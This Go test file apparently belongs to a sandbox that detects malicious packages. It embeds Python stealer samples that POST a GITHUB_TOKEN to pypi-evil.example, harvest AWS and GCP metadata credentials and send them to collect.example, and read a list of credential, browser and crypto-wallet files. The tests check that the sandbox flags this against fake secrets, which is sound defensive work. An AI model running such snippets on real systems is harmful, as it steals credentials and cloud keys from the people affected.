//go:build linux

package native_test

import (
	"strings"
	"testing"

	"github.com/moat-sandbox/moat"
)

// findings returns the run's findings of cat.
func findingsOf(res *moat.Result, cat moat.Category) []moat.Finding {
	var out []moat.Finding
	for _, f := range res.Findings {
		if f.Category == cat {
			out = append(out, f)
		}
	}
	return out
}

// TestSinkholeHTTPSInClear: a stealer's HTTPS POST gets a 200 from the
// sink, which read it in clear: the request with its body is in the
// report, and the fake secret in the body is exfiltration. The trust
// store the program sees holds only the run's CA, read-only, and no key.
func TestSinkholeHTTPSInClear(t *testing.T) {
	prog := `
import os, urllib.request
secret = os.environ["GITHUB_TOKEN"].encode()
r = urllib.request.urlopen("https://pypi-evil.example/x", data=secret, timeout=10)
print("https", r.status)
ca = os.environ["SSL_CERT_FILE"]
print("ca", ca, os.environ["REQUESTS_CA_BUNDLE"] == ca, os.environ["PIP_CERT"] == ca)
pem = open(ca).read()
print("certs", pem.count("BEGIN CERTIFICATE"), "keys", pem.count("PRIVATE"))
try:
    open(ca, "a").write("x")
    print("ca writable")
except OSError as e:
    print("ca read-only", type(e).__name__)
`
	res := runNet(t, moat.NetworkSinkhole, prog)
	for _, w := range []string{"https 200", "ca /etc/ssl/certs/ca-certificates.crt True True", "certs 1 keys 0", "ca read-only"} {
		if !strings.Contains(res.Stdout, w) {
			t.Errorf("stdout lacks %q:\n%s\n%s", w, res.Stdout, res.Stderr)
		}
	}
	ev := netEvent(res, moat.KindConnect, "sni=pypi-evil.example decrypted https POST", "host=pypi-evil.example", "/x", "ghp_")
	if ev == nil || !strings.HasPrefix(ev.Data, "POST /x HTTP/1.1") {
		t.Fatalf("no decrypted request with its body; network events:\n%s", dumpNet(res))
	}
	// Seen by the sink, outside the program: not only the hook's claim.
	var seen bool
	for _, f := range findingsOf(res, moat.CategoryExfiltration) {
		seen = seen || f.Severity == moat.SeverityCritical && strings.Contains(f.Summary, "env-github-token sent over the network") &&
			!strings.Contains(f.Summary, "audit hook")
	}
	if !seen {
		t.Errorf("no exfiltration finding from the sink: %+v", res.Findings)
	}
}

// TestSinkholeMetadata: the instance metadata service answers like an
// EC2 instance's (IMDSv2) and GCP's, with fake credentials; taking them
// is credential access, sending them on is exfiltration.
func TestSinkholeMetadata(t *testing.T) {
	prog := `
import json, urllib.request
def get(url, method="GET", **h):
    return urllib.request.urlopen(urllib.request.Request(url, method=method, headers=h), timeout=10).read().decode()
tok = get("http://169.254.169.254/latest/api/token", "PUT", **{"X-aws-ec2-metadata-token-ttl-seconds": "21600"})
base = "http://169.254.169.254/latest/meta-data/iam/security-credentials/"
role = get(base, **{"X-aws-ec2-metadata-token": tok})
creds = json.loads(get(base + role, **{"X-aws-ec2-metadata-token": tok}))
print("aws", creds["AccessKeyId"][:4], len(creds["SecretAccessKey"]))
g = json.loads(get("http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token", **{"Metadata-Flavor": "Google"}))
print("gcp", g["token_type"])
urllib.request.urlopen("http://collect.example/k", data=creds["SecretAccessKey"].encode(), timeout=10)
`
	res := runNet(t, moat.NetworkSinkhole, prog)
	for _, w := range []string{"aws ASIA 40", "gcp Bearer"} {
		if !strings.Contains(res.Stdout, w) {
			t.Errorf("stdout lacks %q:\n%s\n%s", w, res.Stdout, res.Stderr)
		}
	}
	var md *moat.Finding
	for _, f := range findingsOf(res, moat.CategoryCredentialAccess) {
		if strings.Contains(f.Summary, "took the fake credentials moat's sink served") {
			md = &f
		}
	}
	if md == nil || md.Severity != moat.SeverityHigh || !strings.Contains(md.Summary, "imds-aws-secret-access-key") ||
		!strings.Contains(md.Summary, "gcp-metadata-token") || strings.Contains(md.Summary, "audit hook") {
		t.Errorf("metadata finding: %+v", res.Findings)
	}
	var sent bool
	for _, f := range findingsOf(res, moat.CategoryExfiltration) {
		sent = sent || strings.Contains(f.Summary, "imds-aws-secret-access-key sent over the network")
	}
	if !sent {
		t.Errorf("exfiltration of the served key: %+v", res.Findings)
	}
}

// TestBaitCredentialAccess: reading each file stealers go for is
// credential access, naming the file.
func TestBaitCredentialAccess(t *testing.T) {
	files := []string{".git-credentials", ".kube/config", ".docker/config.json",
		".config/gcloud/application_default_credentials.json", ".azure/msal_token_cache.json", ".azure/accessTokens.json",
		".config/google-chrome/Default/Login Data", ".local/share/TelegramDesktop/tdata/key_datas",
		".config/discord/Local Storage/leveldb/000005.ldb", ".electrum/wallets/default_wallet",
		".config/Exodus/exodus.wallet/seed.seco", ".bash_history"}
	prog := `
import glob, os
home = os.path.expanduser("~")
paths = ` + pyList(files) + ` + glob.glob(home + "/.mozilla/firefox/*/logins.json")
for p in paths:
    full = p if p.startswith("/") else os.path.join(home, p)
    with open(full, "rb") as f:
        f.read()
print("read", len(paths), "home", home)
`
	res := runNet(t, moat.NetworkNone, prog)
	_, home, ok := strings.Cut(strings.TrimSpace(res.Stdout), "read 13 home ")
	if !ok {
		t.Fatalf("stdout: %s\n%s", res.Stdout, res.Stderr)
	}
	ca := findingsOf(res, moat.CategoryCredentialAccess)
	if len(ca) != 1 || ca[0].Severity != moat.SeverityHigh || !strings.Contains(ca[0].Summary, "read 13 planted fake credential files") {
		t.Fatalf("credential access: %+v", res.Findings)
	}
	for _, f := range append(files, ".mozilla/firefox/") {
		if !strings.Contains(ca[0].Summary, home+"/"+f) {
			t.Errorf("finding does not name ~/%s: %s", f, ca[0].Summary)
		}
	}
}

func pyList(s []string) string {
	q := make([]string, len(s))
	for i, x := range s {
		q[i] = `"` + x + `"`
	}
	return "[" + strings.Join(q, ", ") + "]"
}
